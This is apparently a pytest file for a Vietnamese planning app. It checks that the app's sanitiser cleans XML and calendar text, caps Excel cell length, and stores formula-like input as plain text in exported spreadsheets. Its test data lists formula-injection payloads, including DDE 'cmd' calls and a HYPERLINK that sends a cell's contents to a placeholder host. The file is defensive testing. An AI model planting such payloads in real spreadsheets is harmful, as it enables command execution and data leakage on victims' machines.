"""The one text sanitiser for .docx/.xlsx/.ics and text that looks like an Excel formula."""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl
import pytest

from cchc_desktop.documents import evidence_docs, report_docs
from cchc_desktop.documents.render.office_docs import render_appendix_office
from cchc_desktop.reporting import report as rp
from cchc_desktop.store.domain import Appendix, Plan, Task, TaskStatus
from cchc_desktop.store.progress import ProgressEntry, ProgressService
from cchc_desktop.text.safetext import XLSX_MAX_CHARS, cell_text, ics_text, xml_text

FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)"]


def test_xml_text_keeps_what_xml_allows_and_drops_the_rest() -> None:
    assert xml_text("Sở Nội vụ\tA&B <x>\nhết") == "Sở Nội vụ\tA&B <x>\nhết"
    assert xml_text("a\x00b\x01c\x1fd\ufffee\uffff") == "abcde"
    assert xml_text("dòng 1\x0bdòng 2\x0cdòng 3") == "dòng 1\ndòng 2\ndòng 3"  # Word's line break
    assert xml_text("xin chào \udcff") == "xin chào \ufffd"  # a lone surrogate: visible replacement
    assert xml_text("\ud83d\ude00") == "\U0001f600"  # a surrogate pair is the character it encodes
    assert xml_text("Nho\u0302\u0300") == "Nhồ"  # NFC
    assert xml_text(None) == "" and xml_text(12) == "12"
    assert ics_text("a\r\nb\rc\x7fd\x02") == "a\nb\ncd"


def test_an_excel_cell_holds_at_most_what_excel_allows() -> None:
    text = cell_text("ả" * 100_000)
    assert len(text) == XLSX_MAX_CHARS and text.endswith("[…]")
    assert cell_text("ngắn") == "ngắn"


@pytest.fixture
def formula_store(store):
    plan = store.plans.create(Plan(number="01/KH-UBND", issuer="UBND tỉnh", title="Kế hoạch 2025", period_start=2025,
                                   period_end=2025, issue_date=dt.date(2025, 1, 2),
                                   appendices=[Appendix(title="Nhiệm vụ")]))
    progress = ProgressService(store)
    for text in FORMULAS:
        task = store.tasks.create(Task(plan_id=plan.id, content=text, time_frame="Quý I/2025", output=text,
                                       notes=text, lead=store.agencies.resolve("Sở Nội vụ")))
        progress.record(ProgressEntry(task_id=task.id, state=TaskStatus.DONE, done_on=dt.date(2025, 3, 1), note=text,
                                      evidence_number=text, officer=text))
    return store, plan.id


def _formula_cells(path) -> tuple[list[str], list[str]]:
    """(cells stored as formulas, text cells starting like a formula without Excel's quote prefix)."""
    with zipfile.ZipFile(path) as z:
        raw = [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
    book = openpyxl.load_workbook(path)
    unprotected = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    raw.append(f"{ws.title}!{c.coordinate}")
                elif isinstance(c.value, str) and c.value[:1] in "=+-@" and not c.quotePrefix:
                    unprotected.append(f"{ws.title}!{c.coordinate}={c.value}")
    return raw, unprotected


def _texts(path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_every_xlsx_writes_formula_like_text_as_text(formula_store, tmp_path) -> None:
    store, plan_id = formula_store
    appendix, report_x, evidence_x = tmp_path / "phuluc.xlsx", tmp_path / "baocao.xlsx", tmp_path / "minhchung.xlsx"
    render_appendix_office(store, plan_id, xlsx=appendix, columns=["stt", "content", "lead", "output", "notes"])
    report = rp.build_report(store, rp.parse_period("2025"), [plan_id], today=dt.date(2025, 6, 30))
    report_docs.write_xlsx(report, report_x)
    evidence_docs.write_xlsx(store, report, evidence_x)
    for path in (appendix, report_x, evidence_x):
        formulas, unprotected = _formula_cells(path)
        assert formulas == [], (path.name, formulas)
        assert unprotected == [], (path.name, unprotected)
        assert set(FORMULAS) <= _texts(path), path.name  # shown exactly as typed
